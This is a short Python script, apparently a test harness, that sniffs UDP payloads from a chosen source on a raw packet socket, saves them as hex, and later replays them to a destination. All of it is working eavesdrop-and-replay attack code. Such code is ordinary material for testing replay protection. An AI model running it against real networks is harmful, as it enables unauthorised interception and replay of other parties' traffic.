#!/usr/bin/python3
# An eavesdropper on the flow-sync link, then an attacker who replays what it heard.
# usage: sync_replay.py capture IFACE SOURCE_IP PORT OUT_FILE SECONDS
#          writes the UDP payload of every IPv4 datagram from SOURCE_IP to PORT, one hex line each
#        sync_replay.py replay IN_FILE DEST_IP PORT
#          sends each payload again, from any port of this namespace; prints "replayed N"
import socket
import struct
import sys
import time

mode = sys.argv[1]
if mode == "capture":
    iface, source, port, out, seconds = sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5], float(sys.argv[6])
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    s.bind((iface, 0))
    s.settimeout(0.2)
    end = time.monotonic() + seconds
    with open(out, "w") as f:
        while time.monotonic() < end:
            try:
                packet = s.recv(65535)
            except socket.timeout:
                continue
            ihl = (packet[0] & 0x0F) * 4
            if packet[9] != 17 or socket.inet_ntoa(packet[12:16]) != source:
                continue
            dport = struct.unpack("!H", packet[ihl + 2:ihl + 4])[0]
            if dport == port:
                f.write(packet[ihl + 8:].hex() + "\n")
                f.flush()
elif mode == "replay":
    path, dest, port = sys.argv[2], sys.argv[3], int(sys.argv[4])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    n = 0
    for line in open(path):
        s.sendto(bytes.fromhex(line.strip()), (dest, port))
        n += 1
        time.sleep(0.01)
    print("replayed", n)
